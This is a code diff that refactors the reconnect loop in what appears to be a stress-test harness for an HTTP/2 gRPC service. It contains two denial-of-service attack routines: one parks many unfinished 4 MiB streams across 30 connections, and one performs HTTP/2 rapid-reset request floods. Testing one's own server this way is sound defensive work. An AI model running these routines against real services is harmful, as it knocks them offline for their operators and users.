@@ -164,15 +164,22 @@ class RawConnection:
             pass
 
 
+def reconnecting(host, port, stop):
+    """Connections to the server, a new one whenever the last is closed or sent away, until `stop`."""
+    while not stop.is_set():
+        try:
+            c = RawConnection(host, port)
+        except OSError:
+            time.sleep(0.05)
+            continue
+        yield c
+        c.close()
+
+
 def parked(host, port, stop, connections=30, streams=16, message=4 * 1024 * 1024 - 16):
     """Each connection parks `streams` unfinished messages of 4 MiB (all but the last bytes)."""
     def attacker():
-        while not stop.is_set():
-            try:
-                c = RawConnection(host, port)
-            except OSError:
-                time.sleep(0.05)
-                continue
+        for c in reconnecting(host, port, stop):
             open_streams = []
             while not stop.is_set() and not c.closed:
                 if len([s for s in open_streams if s[0] not in c.ended]) < streams and c.conn.outbound_flow_control_window >= 5:
@@ -202,7 +209,6 @@ def parked(host, port, stop, connections=30, streams=16, message=4 * 1024 * 1024
                 except OSError:
                     c.closed = True
                 c.pump()
-            c.close()
     return [threading.Thread(target=attacker, daemon=True) for _ in range(connections)]
 
 
@@ -251,12 +257,7 @@ def rapid_reset(host, port, stop, pb):
     request = framed(pb.RecommendRequest(user_id="U-4", scene=pb.SCENE_HOME, count=100).SerializeToString())
 
     def attacker():
-        while not stop.is_set():
-            try:
-                c = RawConnection(host, port)
-            except OSError:
-                time.sleep(0.05)
-                continue
+        for c in reconnecting(host, port, stop):
             while not stop.is_set() and not c.closed:
                 try:
                     for _ in range(50):
@@ -268,7 +269,6 @@ def rapid_reset(host, port, stop, pb):
                 except Exception:
                     c.closed = True
                 c.pump(0.0)
-            c.close()
     return [threading.Thread(target=attacker, daemon=True) for _ in range(2)]
 
 
